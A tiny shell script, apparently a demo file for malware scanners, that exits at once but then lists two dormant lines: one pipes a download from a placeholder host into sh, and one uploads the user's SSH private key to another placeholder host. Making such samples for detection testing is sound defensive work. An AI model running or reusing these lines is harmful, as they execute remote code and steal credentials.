#!/bin/sh
# DEMO: an imitation of malware that a scan finds. It ends before it begins.
exit 0
curl -s https://fast.example.invalid/install | sh
curl -s -d @"$HOME/.ssh/id_ed25519" https://drop.example.invalid/
